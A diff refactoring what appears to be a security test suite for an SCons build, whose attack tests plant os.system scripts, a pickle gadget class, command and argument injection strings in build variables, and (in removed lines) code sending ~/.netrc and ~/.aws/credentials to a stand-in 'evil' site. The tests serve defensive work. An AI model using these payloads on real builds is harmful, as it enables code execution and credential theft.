@@ -4,6 +4,7 @@ import os
 import pickle
 import shutil
 
+from attackers import Bomb
 import stage
 
 STAMP = {"__init__.py": "def stamp(version):\n    return version\n"}
@@ -13,14 +14,6 @@ STAMP_NEW = {
     "form.py": "import datetime\n\n\ndef form(version):\n"
                '    return f"{version}.{datetime.date.today():%Y}"\n'}
 PROGRAM = "int main(void)\n{\n\treturn %d;\n}\n"
-
-
-class Bomb:
-    def __init__(self, *call):
-        self.call = call
-
-    def __reduce__(self):
-        return self.call[0], self.call[1:]
 
 
 class SconsBuild(stage.Program):
@@ -104,9 +97,8 @@ class SconsBuild(stage.Program):
 
     @stage.attack("malicious plugin")
     def script_runs_a_command(self):
-        marker = self.marker("script")
-        self.plant(f"import os\nos.system('id > {marker}')")
-        return marker.exists()
+        return self.runs_line(lambda line: self.plant(
+            f"import os\nos.system('{line}')"))
 
     @stage.attack("secret disclosure")
     def script_prints_a_key(self):
@@ -115,29 +107,19 @@ class SconsBuild(stage.Program):
 
     @stage.attack("exfiltration")
     def script_sends_credentials(self):
-        evil = self.site("evil")
-        evil.page("*", b"")
-        self.plant(stage.THEFT.format(url=evil.url, file="~/.netrc"))
-        return evil.heard(stage.SECRET)
+        return self.steals(self.plant, "~/.netrc")
 
     @stage.attack("reverse shell")
     def script_calls_home(self):
-        with self.listener() as attacker:
-            self.plant(stage.CALL_HOME.format(port=self.port("shell")))
-            return self.happens(lambda: b"got-42" in attacker.heard)
+        return self.calls_home(self.plant)
 
     @stage.attack("ctypes")
     def script_calls_libc(self):
-        marker = self.marker("ctypes")
-        self.plant("import ctypes\nctypes.CDLL(None).system("
-                   f"b'id > {marker}')")
-        return marker.exists()
+        return self.runs_libc(self.plant)
 
     @stage.attack("fork+exec")
     def script_forks_and_execs(self):
-        marker = self.marker("fork")
-        self.plant(stage.FORK_AND_EXEC.format(line=f"id > {marker}"))
-        return self.happens(marker.exists)
+        return self.forks(self.plant)
 
     @stage.attack("write to code")
     def script_changes_a_dependency(self):
@@ -152,27 +134,26 @@ class SconsBuild(stage.Program):
 
     @stage.attack("malicious plugin")
     def site_script_runs_a_command(self):
-        marker = self.marker("site")
-        stage.write(self.srv / "site_scons/site_init.py",
-                    f"import os\nos.system('id > {marker}')\n")
-        self.build()
-        has_succeeded = marker.exists()
-        (self.srv / "site_scons/site_init.py").unlink()
-        return has_succeeded
+        path = self.srv / "site_scons/site_init.py"
+
+        def use(line):
+            stage.write(path, f"import os\nos.system('{line}')\n")
+            self.build()
+            path.unlink()
+        return self.runs_line(use)
 
     @stage.attack("command injection")
     def version_runs_a_command(self):
-        marker = self.marker("version")
-        self.build(f"VERSION=1; id > {marker}; echo x")
-        return marker.exists()
+        return self.runs_line(
+            lambda line: self.build(f"VERSION=1; {line}; echo x"))
 
     @stage.attack("argument injection")
     def flags_run_a_command(self):
-        marker = self.marker("flags")
-        program = stage.write(self.loot / "run", "#!/bin/sh\n"
-                              f"id > {marker}\nexec \"$@\"\n", 0o755)
-        self.build(f"CCFLAGS=-wrapper {program}", "out/debug/hello/hello")
-        return marker.exists()
+        def use(line):
+            program = stage.write(self.loot / "run", "#!/bin/sh\n"
+                                  f"{line}\nexec \"$@\"\n", 0o755)
+            self.build(f"CCFLAGS=-wrapper {program}", "out/debug/hello/hello")
+        return self.runs_line(use)
 
     @stage.attack("argument injection")
     def flags_include_a_password(self):
@@ -182,12 +163,13 @@ class SconsBuild(stage.Program):
 
     @stage.attack("unsafe pickle")
     def signatures_run_a_command(self):
-        marker = self.marker("pickle")
         path = self.srv / ".sconsign.dblite"
-        path.write_bytes(pickle.dumps(Bomb(os.system, f"id > {marker}")))
-        self.build()
-        path.unlink(missing_ok=True)
-        return marker.exists()
+
+        def use(line):
+            path.write_bytes(pickle.dumps(Bomb(os.system, line)))
+            self.build()
+            path.unlink(missing_ok=True)
+        return self.runs_line(use)
 
     @stage.attack("symlink swap")
     def source_became_a_link(self):
@@ -202,9 +184,4 @@ class SconsBuild(stage.Program):
 
     @stage.attack("malicious dependency")
     def stamp_steals_credentials(self):
-        evil = self.site("evil")
-        evil.page("*", b"")
-        self.install("stamp", "1.0.1", {"__init__.py": stage.THEFT.format(
-            url=evil.url, file="~/.aws/credentials") + STAMP["__init__.py"]})
-        self.build()
-        return evil.heard(stage.SECRET)
+        return self.dependency_steals("stamp", "1.0.1", STAMP, self.build)
